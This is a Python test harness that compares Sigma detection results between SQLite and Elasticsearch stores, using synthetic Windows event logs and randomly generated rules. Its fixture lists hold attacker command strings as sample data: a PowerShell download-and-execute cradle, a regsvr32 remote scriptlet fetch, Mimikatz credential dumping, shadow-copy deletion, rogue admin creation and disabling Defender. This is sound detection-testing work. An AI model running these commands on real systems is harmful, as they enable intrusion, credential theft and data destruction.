"""Sigma on both stores, compared: the harness of ``test_sigma_both_stores`` and ``compat/sigma_both_stores.py``.

``compare`` writes the same events to a SQLite store and to an Elasticsearch store, runs
``run_detections`` on each with the same compiled rules, and returns what differs (alert ids,
entity, first/last seen, evidence) with the wall time of each side.

``generated_corpus`` makes Windows events with the shapes of the real samples (Sysmon process
creation and network, Security 4688/4624, PowerShell script blocks with newlines, a Defender
field with a space in its name, a command line longer than the keyword ``ignore_above``),
written as real EVTX files (``tests.evtxgen``) and read back by the EVTX reader, and Sigma rules
drawn from the same values with the case changed at random, over every modifier the embedded
engine knows (``contains|all``, ``|cased``, ``|re`` with and without ``i``, ``|cidr``, ``|exists``,
``null``, numbers and comparisons, keywords, ``not`` filters). Without ``../shared/data`` this is
what proves that Elasticsearch answers as the embedded engine does.
"""

from __future__ import annotations

import random
import time
import uuid
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import yaml

from detections.runner import run_detections
from detections.sigma.engine import CompiledSet
from eventstore import Store, open_store

T0 = datetime(2024, 5, 1, tzinfo=UTC)

Summary = dict[str, tuple[Any, ...]]


@dataclass
class Comparison:
    rules: int
    events: int
    sqlite: Summary
    es: Summary
    seconds: dict[str, float] = field(default_factory=dict)

    @property
    def identical(self) -> int:
        return sum(1 for k, v in self.sqlite.items() if self.es.get(k) == v)

    @property
    def differences(self) -> list[str]:
        out = []
        for key in sorted(set(self.sqlite) | set(self.es)):
            a, b = self.sqlite.get(key), self.es.get(key)
            if a != b:
                out.append(f"{key}: rule {(a or b)[0]}: sqlite {_brief(a)}, es {_brief(b)}")
        return out

    def table(self) -> str:
        fired = {side: len({v[0] for v in s.values()}) for side, s in (("sqlite", self.sqlite), ("es", self.es))}
        lines = [
            "| store | rules | events | alerts | rules fired | identical alert ids + evidence | detect wall time |",
            "|---|---|---|---|---|---|---|",
        ]
        for side, summary in (("SQLite", self.sqlite), ("Elasticsearch", self.es)):
            key = side.lower()[:6] if side == "SQLite" else "es"
            lines.append(f"| {side} | {self.rules} | {self.events:,} | {len(summary):,} | "
                         f"{fired['sqlite' if side == 'SQLite' else 'es']} | {self.identical:,} | "
                         f"{self.seconds.get(key, 0.0):.1f} s |")
        return "\n".join(lines)


def _brief(alert: tuple[Any, ...] | None) -> str:
    if alert is None:
        return "no alert"
    return f"{alert[2]}..{alert[3]} with {len(alert[4])} events (first {alert[4][:2]})"


def summary(store: Store) -> Summary:
    return {
        a["event.id"]: (a["rule.id"], a.get("ztsoc.alert.entity.value"), a["ztsoc.alert.first_seen"],
                        a["ztsoc.alert.last_seen"], tuple(sorted(a["ztsoc.alert.evidence"])))
        for a in store.scan("*", index="alerts")
    }


def compare(compiled: CompiledSet, events: Sequence[dict[str, Any]], es_url: str, sqlite_path: Path) -> Comparison:
    """Both stores, same events, same rules; the ES prefix is dropped afterwards."""
    stamps = sorted(str(e["@timestamp"]) for e in events)
    since = datetime.fromisoformat(stamps[0].replace("Z", "+00:00")) - timedelta(days=1)
    until = datetime.fromisoformat(stamps[-1].replace("Z", "+00:00")) + timedelta(days=1)
    sides: dict[str, Store] = {
        "sqlite": open_store(f"sqlite:///{sqlite_path}"),
        "es": open_store(f"{es_url.rstrip('/')}/?prefix=ztsoc-sigmadiff-{uuid.uuid4().hex[:10]}"),
    }
    seconds: dict[str, float] = {}
    out: dict[str, Summary] = {}
    try:
        for side, store in sides.items():
            t0 = time.perf_counter()
            result = store.write_events(events)
            seconds[f"{side}_ingest"] = time.perf_counter() - t0
            if result.errors:
                raise AssertionError(f"{side} refused events: {result.errors[:3]}")
            t0 = time.perf_counter()
            run_detections(store, since=since, until=until, compiled=compiled)
            seconds[side] = time.perf_counter() - t0
            out[side] = summary(store)
    finally:
        for store in sides.values():
            drop = getattr(store, "drop", None)
            if drop is not None:
                drop()
            store.close()
    return Comparison(len(compiled.base), len(events), out["sqlite"], out["es"], seconds)


# -- a generated corpus with the shapes of the real samples ---------------------------------------

_SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
_SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
_POWERSHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
_DEFENDER = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")

_IMAGES = [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
           r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\System32\rundll32.exe",
           r"C:\Users\Public\Downloads\evil.exe", r"C:\Program Files\Mozilla Firefox\firefox.exe",
           r"C:\Windows\SysWOW64\regsvr32.exe", r"C:\ProgramData\svchost.exe", "C:\\Temp\\ünïcode.exe"]
_ARGS = ["/c whoami", "-nop -w hidden -enc SQBFAFgA", "/s /q", "-ExecutionPolicy Bypass -File a.ps1",
         "shell32.dll,Control_RunDLL", "/i:http://10.0.0.5/x.sct scrobj.dll", "--headless", "vssadmin delete shadows",
         "net user admin P@ss /add", "\"quoted arg\" *star* ?q?"]
_USERS = ["CORP\\alice", "CORP\\Bob", "NT AUTHORITY\\SYSTEM", "corp\\admin$"]
_IPS = ["10.0.0.5", "10.1.200.7", "192.168.1.20", "8.8.8.8", "172.16.5.4", "fe80::1", "2001:db8::7"]
_SCRIPTS = ["Invoke-Mimikatz -DumpCreds", "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "Get-Process\nStop-Process -Name lsass", "$a = 'Set-MpPreference'\n-DisableRealtimeMonitoring $true",
            "Write-Host hello"]
_THREATS = ["Trojan:Win32/Emotet", "HackTool:Win32/Mimikatz", "Behavior:Win32/Generic"]


def _case(text: str, rng: random.Random) -> str:
    """The same text with its letters' case changed at random (Sigma must not care)."""
    mode = rng.random()
    if mode < 0.4:
        return text
    if mode < 0.55:
        return text.upper()
    if mode < 0.7:
        return text.lower()
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def _records(rng: random.Random, n: int) -> list[Any]:
    from tests.evtxgen import Record

    out = []
    for i in range(n):
        when = T0 + timedelta(seconds=37 * i + rng.randrange(30))
        shape = rng.random()
        image = _case(rng.choice(_IMAGES), rng)
        if shape < 0.4:
            cmd = f"{image} {rng.choice(_ARGS)}"
            if rng.random() < 0.03:
                cmd += " -enc " + "QUFB" * 2500  # longer than the keyword ignore_above (8191)
            data = {"Image": image, "CommandLine": cmd, "ParentImage": _case(rng.choice(_IMAGES), rng),
                    "User": _case(rng.choice(_USERS), rng), "IntegrityLevel": rng.choice(["High", "Medium", "System"]),
                    "Hashes": f"MD5={rng.getrandbits(128):032X},SHA256={rng.getrandbits(256):064x}",
                    "OriginalFileName": _case(image.rsplit("\\", 1)[-1], rng)}
            if rng.random() < 0.1:
                data["CurrentDirectory"] = ""
            out.append(Record(1, when, *_SYSMON, data=data))
        elif shape < 0.55:
            data = {"Image": image, "DestinationIp": rng.choice(_IPS), "DestinationPort": str(rng.choice([53, 80, 443, 4444, 8080])),
                    "Initiated": rng.choice(["true", "false"])}
            if rng.random() < 0.5:
                data["DestinationHostname"] = _case(rng.choice(["evil.example.com", "update.microsoft.com", ""]), rng)
            out.append(Record(3, when, *_SYSMON, data=data))
        elif shape < 0.7:
            out.append(Record(4688, when, *_SECURITY, data={
                "NewProcessName": image, "CommandLine": f"{image} {rng.choice(_ARGS)}",
                "SubjectUserName": _case(rng.choice(_USERS).split("\\")[-1], rng)}))
        elif shape < 0.82:
            out.append(Record(4624, when, *_SECURITY, data={
                "LogonType": str(rng.choice([2, 3, 10])), "IpAddress": rng.choice([*_IPS, "-"]),
                "TargetUserName": _case(rng.choice(_USERS).split("\\")[-1], rng)}))
        elif shape < 0.94:
            out.append(Record(4104, when, *_POWERSHELL, data={"ScriptBlockText": _case(rng.choice(_SCRIPTS), rng)}))
        else:
            out.append(Record(1116, when, *_DEFENDER, data={"Threat Name": _case(rng.choice(_THREATS), rng)}))
    return out


#: logsource -> header selection -> fields with their value pools
_SOURCES: list[tuple[dict[str, str], dict[str, Any], dict[str, list[str]]]] = [
    ({"product": "windows", "category": "process_creation"}, {},
     {"Image": _IMAGES, "CommandLine": [f"{i} {a}" for i in _IMAGES[:3] for a in _ARGS], "ParentImage": _IMAGES,
      "User": _USERS, "IntegrityLevel": ["High", "Medium", "System"], "OriginalFileName": [i.rsplit("\\", 1)[-1] for i in _IMAGES],
      "Hashes": ["MD5=", "SHA256="], "CurrentDirectory": ["C:\\"]}),
    ({"product": "windows", "category": "network_connection"}, {},
     {"Image": _IMAGES, "DestinationIp": _IPS, "DestinationPort": ["443", "4444"], "Initiated": ["true"],
      "DestinationHostname": ["evil.example.com", "microsoft.com"]}),
    ({"product": "windows", "service": "security"}, {"EventID": 4688},
     {"NewProcessName": _IMAGES, "CommandLine": _ARGS, "SubjectUserName": ["alice", "bob", "admin$"]}),
    ({"product": "windows", "service": "security"}, {"EventID": 4624},
     {"LogonType": ["3", "10"], "IpAddress": _IPS, "TargetUserName": ["alice", "Bob"]}),
    ({"product": "windows", "category": "ps_script"}, {"EventID": 4104},
     {"ScriptBlockText": _SCRIPTS}),
    ({"product": "windows", "service": "windefend"}, {"EventID": 1116},
     {"ThreatName": _THREATS}),
]


def _piece(value: str, rng: random.Random) -> str:
    """A substring that occurs in the value (or a made-up one now and then)."""
    if rng.random() < 0.08:
        return "nothing-like-this"
    if len(value) < 4:
        return value
    a = rng.randrange(len(value) - 2)
    b = rng.randrange(a + 2, min(len(value), a + 14) + 1)
    return value[a:b]


def _condition(name: str, pool: list[str], rng: random.Random) -> tuple[str, Any]:
    value = rng.choice(pool)
    r = rng.random()
    piece = _piece(value, rng)
    if name in ("DestinationIp", "IpAddress") and r < 0.3:
        return f"{name}|cidr", rng.choice(["10.0.0.0/8", "192.168.0.0/16", "fe80::/10", "8.8.8.8/32"])
    if name in ("DestinationPort", "LogonType") and r < 0.4:
        return f"{name}|{rng.choice(['gt', 'gte', 'lt', 'lte'])}", rng.choice([3, 100, 443, 1000])
    if name in ("DestinationPort", "LogonType") and r < 0.6:
        return name, int(value) if value.isdigit() else value
    choices: list[tuple[str, Any]] = [
        (name, _case(value, rng)),
        (f"{name}|contains", _case(piece, rng)),
        (f"{name}|startswith", _case(value[: rng.randrange(1, len(value) + 1)], rng)),
        (f"{name}|endswith", _case(value[-rng.randrange(1, len(value) + 1):], rng)),
        (f"{name}|contains|all", [_case(_piece(value, rng), rng), _case(_piece(value, rng), rng)]),
        (f"{name}|contains", [_case(_piece(rng.choice(pool), rng), rng) for _ in range(rng.randrange(2, 6))]),
        (f"{name}|contains|cased", piece),
        (f"{name}|endswith|cased", _case(value[-6:], rng)),
        (f"{name}|re", _regex(piece, rng)),
        (f"{name}|re|i", _regex(_case(piece, rng), rng)),
        (name, _case(piece[:2], rng) + "*" + _case(piece[2:], rng) + rng.choice(["", "?", "*"])),
        (f"{name}|exists", rng.random() < 0.7),
        (name, None),
        (name, ""),
    ]
    return rng.choice(choices)


def _regex(piece: str, rng: random.Random) -> str:
    import re

    core = re.escape(piece)
    return rng.choice([core, f"{core}.*", f"^.*{core}", f"{core}$", f"(?:{core}|zzz)", core.replace("\\ ", "\\s"),
                       f"{core}.{{0,40}}e", r"\d{2,}", f"[a-z]+{core}"])


def generated_rules(rng: random.Random, n: int, folder: Path) -> Path:
    """``n`` Sigma rules as YAML files in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        logsource, header, fields = rng.choice(_SOURCES)
        names = list(fields)
        selection: dict[str, Any] = dict(header)
        for name in rng.sample(names, k=min(len(names), rng.randrange(1, 3))):
            key, value = _condition(name, fields[name], rng)
            selection[key] = value
        detection: dict[str, Any] = {"selection": selection}
        condition = "selection"
        r = rng.random()
        if r < 0.35:
            name = rng.choice(names)
            key, value = _condition(name, fields[name], rng)
            detection["filter"] = {key: value}
            condition = "selection and not filter"
        elif r < 0.45:
            detection["keywords"] = [_case(_piece(rng.choice(fields[rng.choice(names)]), rng), rng)]
            condition = "selection and keywords"
        elif r < 0.55:
            name = rng.choice(names)
            key, value = _condition(name, fields[name], rng)
            detection["selection_alt"] = {**header, key: value}
            condition = "1 of selection*"
        detection["condition"] = condition
        rule = {"title": f"generated {i}", "id": str(uuid.UUID(int=rng.getrandbits(128))), "status": "test",
                "logsource": logsource, "detection": detection, "level": "medium"}
        (folder / f"gen_{i:04d}.yml").write_text(yaml.safe_dump(rule, sort_keys=False))
    return folder


def generated_corpus(seed: int, folder: Path, events: int = 1500, rules: int = 300) -> tuple[Path, list[dict[str, Any]]]:
    """(a folder of Sigma rules, events read back from EVTX files) for ``seed``."""
    from collectors.base import read_all
    from collectors.evtx import EvtxReader
    from tests.evtxgen import write_evtx

    rng = random.Random(seed)
    records = _records(rng, events)
    docs: list[dict[str, Any]] = []
    for n, start in enumerate(range(0, len(records), 500)):
        path = write_evtx(folder / f"gen_{n}.evtx", records[start:start + 500])
        docs.extend(read_all(EvtxReader(), path).events)
    return generated_rules(rng, rules, folder / "rules"), docs
